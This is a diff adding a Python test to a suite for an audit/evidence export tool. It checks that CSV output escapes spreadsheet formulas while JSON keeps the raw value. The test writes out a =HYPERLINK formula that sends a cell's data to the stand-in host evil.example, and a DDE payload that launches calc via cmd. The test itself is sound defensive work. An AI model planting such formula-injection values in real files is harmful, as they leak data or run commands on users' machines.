@@ -236,3 +236,18 @@ def test_a_bundle_is_one_moment_while_calls_keep_arriving(live, tmp_path, projec
     entries = json.loads((made.path / "data" / "audit.json").read_text())
     assert entries[-1]["seq"] <= made.audit_head[0]
     assert len(ws.calls(system=SYSTEM, limit=10)) == 3  # they were written, after the moment
+
+
+def test_a_recorded_text_is_no_spreadsheet_formula_in_the_csv(live, tmp_path):
+    """The CSV is opened in a spreadsheet; the JSON beside it keeps the value as is."""
+    ws, _ = live
+    formula = '=HYPERLINK("https://evil.example/?d="&A1,"open")'
+    ws.record(SYSTEM, {"text": "x"}, "ok", 9.0, user=formula, model="+cmd|' /C calc'!A0")
+    assert ws.flush()
+    folder = ws.export_evidence(SYSTEM, since=since(), out=tmp_path / "bundle").path
+    with open(folder / "data" / "calls.csv", newline="") as handle:
+        (row,) = csv.DictReader(handle)
+    assert row["user_id"] == "'" + formula and row["model"] == "'+cmd|' /C calc'!A0"
+    assert row["latency_ms"] == "9.0"
+    (call,) = json.loads((folder / "data" / "calls.json").read_text())
+    assert call["user_id"] == formula
